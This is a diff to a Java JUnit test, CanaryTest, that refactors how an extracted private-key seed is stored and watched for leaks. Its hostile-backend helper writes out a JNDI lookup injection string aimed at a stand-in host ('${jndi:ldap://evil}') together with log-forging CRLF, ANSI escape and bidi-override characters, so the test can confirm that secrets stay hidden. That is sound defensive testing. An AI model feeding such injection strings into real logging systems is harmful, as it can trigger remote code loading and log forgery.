@@ -32,7 +32,6 @@ import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.Callable;
-import java.util.concurrent.atomic.AtomicReference;
 import java.util.function.Function;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
@@ -72,7 +71,7 @@ class CanaryTest {
   private final Canary canary = new Canary();
   private final byte[] plaintext = new byte[48];
   private final Path directory;
-  private final AtomicReference<byte[]> seed = new AtomicReference<>(new byte[0]);
+  private byte[] seed = NOTHING;
 
   CanaryTest(@TempDir Path directory) {
     this.directory = directory;
@@ -92,7 +91,7 @@ class CanaryTest {
       }
       captured.take(builder(new BentProvider("bent")).diagnose());
       captured.take(builder(new BentProvider("bent")).verifyAuditLog());
-      assertThat(seed.get()).hasSize(32);
+      assertThat(seed).hasSize(32);
       requireSilent(captured);
     }
   }
@@ -144,7 +143,7 @@ class CanaryTest {
   /** Every secret a hostile backend has, in every form; a password in plain words is not found. */
   private String hostileText() {
     StringBuilder text = new StringBuilder("${jndi:ldap://evil}\r\nforged \u001b[31m\u202e");
-    for (byte[] secret : List.of(seed.get(), plaintext)) {
+    for (byte[] secret : List.of(seed, plaintext)) {
       Canary.forms(secret).values().forEach(form -> text.append("key=").append(form).append(' '));
     }
     return text.toString();
@@ -201,8 +200,8 @@ class CanaryTest {
     SecretBytes material = key.versions().get(0).material().orElseThrow();
     byte[] encoded = material.exposeSecret();
     int at = indexOf(encoded, ED25519_SEED_FOLLOWS);
-    seed.set(Arrays.copyOfRange(encoded, at + 4, at + 36));
-    canary.watch("private key", seed.get());
+    seed = Arrays.copyOfRange(encoded, at + 4, at + 36);
+    canary.watch("private key", seed);
     return key;
   }
 
